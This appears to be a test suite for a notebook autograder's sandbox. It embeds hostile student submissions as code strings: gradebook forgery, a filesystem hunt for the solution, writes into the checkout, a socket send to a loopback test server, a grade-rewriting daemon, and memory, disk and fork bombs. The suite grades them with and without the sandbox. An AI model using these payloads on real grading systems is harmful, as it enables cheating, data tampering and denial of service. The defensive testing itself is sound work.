"""Hostile submissions of the toy assignment (issue 12): graded in the sandbox, each scores what the same
answers without the attack score, nobody else's grade moves, no file outside the grading folders changes.

Each attack but the resource ones is also graded once with the sandbox off (``sandbox="none"``,
the ``--no-sandbox`` flag), where it must do its harm: that shows the attack is real and that the
sandbox is what stops it. The memory, fork and disk attacks never run unsandboxed (without a sandbox
this whole file is skipped); the disk attack is capped by the sandbox's tmpfs size (``disk_mb``).
"""

import hashlib
import os
import pathlib
import socket
import threading
import time
import uuid

import nbformat
import pytest
from test_grading import _answer, _toy_source, _write

from instructor import grading
from instructor.grading import sandbox

pytestmark = pytest.mark.skipif(not sandbox.available(), reason="no sandbox can be made here (bwrap missing or "
                                "namespaces not allowed): the hostile submissions are never run unsandboxed")

WRONG_ADD = "def add(a, b):\n    return 0\n"
GOOD_MUL = "def mul(a, b):\n    return a * b\n"
HONEST = {"auto_score": 2.0, "score": 2.0, "max_score": 4.0}  # add wrong (0/1), mul right (2/2), text 0/1

# The instructor's checkout is the first ancestor with a .git folder: attacks look no further up (so
# that, unsandboxed, they cannot touch anything outside the test's own folder).
_ANCESTORS = '''
import glob, json, os, sys
def _ancestors():
    d = os.getcwd()
    while True:
        yield d
        if os.path.isdir(os.path.join(d, ".git")) or d == os.path.dirname(d):
            return
        d = os.path.dirname(d)
'''

# edits every gradebook it can find: its own rows to full marks, everybody else's to 0
GRADEBOOK = _ANCESTORS + '''
def _forge():
    from nbgrader.api import Gradebook
    for d in _ancestors():
        db = os.path.join(d, "gradebook.db")
        if not os.path.exists(db):
            continue
        with Gradebook("sqlite:///" + db) as gb:
            for student in gb.students:
                for sub in student.submissions:
                    for nb in sub.notebooks:
                        for g in nb.grades:
                            g.manual_score = g.max_score if student.id == "gradebook" else 0.0
                            g.auto_score = g.max_score if student.id == "gradebook" else 0.0
            gb.db.commit()
try:
    _forge()
except Exception as err:
    print("no gradebook:", type(err).__name__)
'''

# finds the solution notebook (walking up, through sys.path, by a walk of /) and takes its answer
SOLUTION = _ANCESTORS + '''
def _solution_cell(path):
    try:
        nb = json.load(open(path))
    except Exception:
        return None
    for cell in nb.get("cells", []):
        src = "".join(cell.get("source", ""))
        if cell.get("metadata", {}).get("nbgrader", {}).get("grade_id") == "add" and "BEGIN SOLUTION" in src:
            return src
    return None
def _find():
    for d in _ancestors():
        for p in sorted(glob.glob(os.path.join(d, "solutions", "*", "*.ipynb"))):
            if _solution_cell(p):
                return p
    for d in sys.path:
        for p in sorted(glob.glob(os.path.join(d or ".", "solutions", "*", "*.ipynb"))):
            if _solution_cell(p):
                return p
    skip = {"/proc", "/sys", "/dev", "/usr", sys.prefix, sys.base_prefix}
    for root, dirs, files in os.walk("/"):
        dirs[:] = [x for x in dirs if os.path.join(root, x) not in skip]
        for f in files:
            if f.endswith(".ipynb") and _solution_cell(os.path.join(root, f)):
                return os.path.join(root, f)
    return None
_found = _find()
if _found:
    with open("_stolen.py", "w") as _f:
        _f.write(_solution_cell(_found))
    sys.path.insert(0, os.getcwd())
    from _stolen import add
print("solution found:", bool(_found))
'''

# writes a file into the instructor's checkout (the course folder above the grading folders)
CHECKOUT = _ANCESTORS + '''
for d in _ancestors():
    if os.path.isdir(os.path.join(d, ".git")):
        try:
            with open(os.path.join(d, "PWNED-by-checkout.txt"), "w") as f:
                f.write("written by a submission")
        except OSError as err:
            print("cannot write:", type(err).__name__)
'''

# opens a connection to a server of the test (PORT is filled in)
NETWORK = '''
import socket
try:
    with socket.create_connection(("127.0.0.1", PORT), timeout=3) as s:
        s.sendall(b"exfiltrated by network")
except OSError as err:
    print("no network:", type(err).__name__)
'''

# a double-forked process that outlives the kernel, waits for the results and rewrites them
DAEMON_CODE = r'''
import glob, os, re, sys, time
token, cwd = sys.argv[1], sys.argv[2]
start = time.time()
def ancestors():
    d = cwd
    while True:
        yield d
        if os.path.isdir(os.path.join(d, ".git")) or d == os.path.dirname(d):
            return
        d = os.path.dirname(d)
while time.time() - start < 900:
    for d in list(ancestors()):
        for f in glob.glob(os.path.join(d, "*", "grades.csv")):
            if os.path.getmtime(f) > start + 1:
                text = open(f).read()
                open(f, "w").write(re.sub(r"(?m)^daemon,([^,]*),[^,]*,", r"daemon,\1,99,", text))
                open(os.path.join(os.path.dirname(f), "daemon-was-here.txt"), "w").write(token)
                sys.exit(0)
    time.sleep(0.2)
'''
DAEMON = '''
import os, sys
_code = DAEMON_CODE
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.execv(sys.executable, [sys.executable, "-c", _code, "TOKEN", os.getcwd()])
    os.execv("/bin/true", ["true"])
os.wait()
'''

# resource attacks: sandboxed only
MEMORY = '''
def _eat():
    blocks = []
    while True:
        blocks.append(bytearray(256 * 2**20))
_eat()
'''
DISK = '''
import os
def _fill():
    for folder in (".", "/tmp"):
        try:
            for i in range(40):  # at most 640 MB per folder, should the cap ever fail
                with open(os.path.join(folder, f"fill{i}"), "wb") as f:
                    f.write(b"x" * 2**24)
        except OSError as err:
            print("disk full in", folder, type(err).__name__)
_fill()
'''
FORK = '''
import os, sys
if os.fork() == 0:
    os.execv(sys.executable, [sys.executable, "-c", "import os\\nwhile True:\\n    os.fork()"])
'''

NON_RESOURCE = ["gradebook", "solution", "checkout", "network", "daemon"]
RESOURCE = ["memory", "fork", "disk"]  # never run unsandboxed


class _Server:
    """A TCP server on the loopback interface that records what connects to it."""

    def __init__(self):
        self.sock = socket.socket()
        self.sock.bind(("127.0.0.1", 0))
        self.sock.listen(16)
        self.sock.settimeout(0.5)
        self.port = self.sock.getsockname()[1]
        self.received = []
        self.stop = False
        self.thread = threading.Thread(target=self._serve, daemon=True)
        self.thread.start()

    def _serve(self):
        while not self.stop:
            try:
                conn, _ = self.sock.accept()
            except OSError:
                continue
            with conn:
                conn.settimeout(2)
                try:
                    self.received.append(conn.recv(1000))
                except OSError:
                    self.received.append(b"")

    def close(self):
        self.stop = True
        self.thread.join(timeout=5)
        self.sock.close()


def _hashes(folder, skip=()):
    out = {}
    for p in pathlib.Path(folder).rglob("*"):
        if p.is_file() and not any(s in p.parts for s in skip) and "__pycache__" not in p.parts:
            out[p] = hashlib.sha256(p.read_bytes()).hexdigest()
    return out


def _course(tmp):
    root = tmp / "course"  # the instructor's checkout (a git repository)
    (root / ".git").mkdir(parents=True)
    _write(root / "solutions" / "toy" / "toy.ipynb", _toy_source())
    released = grading.release_notebook("toy", root)
    return root, nbformat.read(str(released), as_version=4)


def _submissions(student, port, token, attacks):
    honest = _answer(_answer(student, "add", WRONG_ADD), "mul", GOOD_MUL)
    code = {"gradebook": GRADEBOOK, "solution": SOLUTION, "checkout": CHECKOUT,
            "network": NETWORK.replace("PORT", str(port)),
            "daemon": DAEMON.replace("DAEMON_CODE", repr(DAEMON_CODE)).replace("TOKEN", token),
            "memory": MEMORY, "fork": FORK, "disk": DISK}
    subs = {"honest": honest, "correct": _answer(_answer(student, "add", "def add(a, b):\n    return a + b"),
                                                 "mul", GOOD_MUL)}
    for name in attacks:
        subs[name] = _answer(_answer(student, "add", WRONG_ADD + code[name]), "mul", GOOD_MUL)
    return subs


def _gradebook(work):
    from nbgrader.api import Gradebook

    with Gradebook(f"sqlite:///{work / 'gradebook.db'}") as gb:
        return {s.id: {g.name: (g.auto_score, g.manual_score) for sub in s.submissions for nb in sub.notebooks
                       for g in nb.grades} for s in gb.students}


def _csv(out):
    import csv

    with open(out / "grades.csv") as f:
        return {row["student"]: row for row in csv.DictReader(f)}


def _processes_with(token):
    found = []
    for p in pathlib.Path("/proc").iterdir():
        if p.name.isdigit():
            try:
                if token.encode() in (p / "cmdline").read_bytes():
                    found.append(int(p.name))
            except OSError:
                pass
    return found


@pytest.fixture(scope="module")
def sandboxed(tmp_path_factory):
    tmp = tmp_path_factory.mktemp("hostile")
    root, student = _course(tmp)
    server, token = _Server(), f"hostile-{uuid.uuid4().hex}"
    subs = _submissions(student, server.port, token, NON_RESOURCE + RESOURCE)
    for who, nb in subs.items():
        _write(tmp / "in" / who / "toy.ipynb", nb)
    import utils as utils_pkg

    repo = pathlib.Path(utils_pkg.__file__).parent.parent
    outside = {**_hashes(tmp, skip=("work", "out")), **_hashes(repo / "utils"), **_hashes(repo / "solutions")}
    work, out = root / "work", root / "out"
    kw = dict(out=out, work=work, timeout=10, root=root, log=None, sandbox="auto", jobs=2, memory_mb=1536,
              processes=64, disk_mb=64)
    first = {r.student: r for r in grading.grade_folder("toy", tmp / "in", **kw)}
    csv1, gb1 = _csv(out), _gradebook(work)
    second = {r.student: r for r in grading.grade_folder("toy", tmp / "in", **kw)}
    time.sleep(3)  # a surviving process would act now
    state = {"first": first, "second": second, "csv1": csv1, "gb1": gb1, "csv2": _csv(out), "gb2": _gradebook(work),
             "outside_before": outside, "repo": repo, "tmp": tmp, "token": token, "server": server.received,
             "survivors": _processes_with(token), "out": out}
    outside_after = {**_hashes(tmp, skip=("work", "out")), **_hashes(repo / "utils"), **_hashes(repo / "solutions")}
    state["outside_after"] = outside_after
    server.close()
    return state


@pytest.mark.parametrize("attack", NON_RESOURCE + RESOURCE)
def test_each_attack_scores_what_the_same_answers_score_without_it(sandboxed, attack):
    for run in ("first", "second"):
        r, honest = sandboxed[run][attack], sandboxed[run]["honest"]
        assert r.status == "graded", (attack, r.reason)
        assert (r.auto_score, r.score, r.max_score) == (HONEST["auto_score"], HONEST["score"], HONEST["max_score"])
        assert {g: c["score"] for g, c in r.cells.items()} == {g: c["score"] for g, c in honest.cells.items()}
        assert r.sandbox.startswith("bwrap")


def test_nobody_elses_grade_moves_in_the_csv_or_the_gradebook(sandboxed):
    for key in ("csv1", "csv2"):
        rows = sandboxed[key]
        assert rows["correct"]["score"] == "3" and rows["honest"]["score"] == "2", rows
        for who, row in rows.items():
            assert row["score"] == ("3" if who == "correct" else "2"), (key, who, row)
            assert row["sandbox"].startswith("bwrap")
    assert sandboxed["gb1"] == sandboxed["gb2"]
    for who, cells in sandboxed["gb2"].items():
        expected = {"test_add": 1.0 if who == "correct" else 0.0, "test_mul": 2.0}
        assert {g: cells[g][0] for g in expected} == expected, who
        assert all(cells[g][1] is None for g in expected), who  # no manual override appeared


def test_resource_attacks_hit_the_caps(sandboxed):
    out = sandboxed["out"]
    for run in ("first", "second"):
        disk = (out / sandboxed[run]["disk"].feedback).read_text()
        assert "disk full in . OSError" in disk and "disk full in /tmp OSError" in disk
        assert "MemoryError" in (out / sandboxed[run]["memory"].feedback).read_text()


def test_no_file_outside_the_grading_folders_changes(sandboxed):
    assert sandboxed["outside_after"] == sandboxed["outside_before"]
    assert not list(sandboxed["tmp"].rglob("PWNED-*"))


def test_nothing_survives_the_kernel_and_nothing_got_out(sandboxed):
    assert sandboxed["survivors"] == []
    assert sandboxed["server"] == []
    assert not list(sandboxed["tmp"].rglob("daemon-was-here.txt"))


# ------------------------------------------------------------- the same attacks without the sandbox


@pytest.fixture(scope="module")
def unsandboxed(tmp_path_factory):
    tmp = tmp_path_factory.mktemp("hostile-nosandbox")
    root, student = _course(tmp)
    server, token = _Server(), f"hostile-{uuid.uuid4().hex}"
    for who, nb in _submissions(student, server.port, token, NON_RESOURCE).items():
        _write(tmp / "in" / who / "toy.ipynb", nb)
    work, out = root / "work", root / "out"
    # one at a time, in name order: "correct" is in the course gradebook before "gradebook" runs
    results = {r.student: r for r in grading.grade_folder("toy", tmp / "in", out=out, work=work, timeout=10, root=root,
                                                          log=None, sandbox="none", jobs=1)}
    deadline = time.time() + 60
    while time.time() < deadline and not (out / "daemon-was-here.txt").exists():
        time.sleep(0.5)
    state = {"results": results, "csv": _csv(out), "root": root, "out": out, "server": list(server.received),
             "daemon": (out / "daemon-was-here.txt").exists(), "gradebook": _gradebook(work)}
    server.close()
    for pid in _processes_with(token):  # the daemon has done its harm; make sure it is gone
        try:
            os.kill(pid, 9)
        except OSError:
            pass
    return state


def test_without_the_sandbox_each_attack_does_its_harm(unsandboxed):
    r = unsandboxed["results"]
    assert all(x.sandbox.startswith("none") for x in r.values())
    assert all(row["sandbox"].startswith("none") for row in unsandboxed["csv"].values())
    assert "NO SANDBOX" in grading.summary_table(list(r.values()))
    # the course gradebook holds 0 for a student graded earlier with full marks (grades.csv still says 3)
    assert unsandboxed["csv"]["correct"]["score"] == "3"
    assert unsandboxed["gradebook"]["correct"]["test_mul"][0] == 0.0, unsandboxed["gradebook"]["correct"]
    assert r["solution"].auto_score == 3 > r["honest"].auto_score, r["solution"]  # the stolen answer passed
    pwned = unsandboxed["root"] / "PWNED-by-checkout.txt"
    assert pwned.exists()
    pwned.unlink()
    assert b"exfiltrated by network" in unsandboxed["server"]
    assert unsandboxed["daemon"], "the background process did not rewrite the results"
    assert unsandboxed["csv"]["daemon"]["score"] == "99"
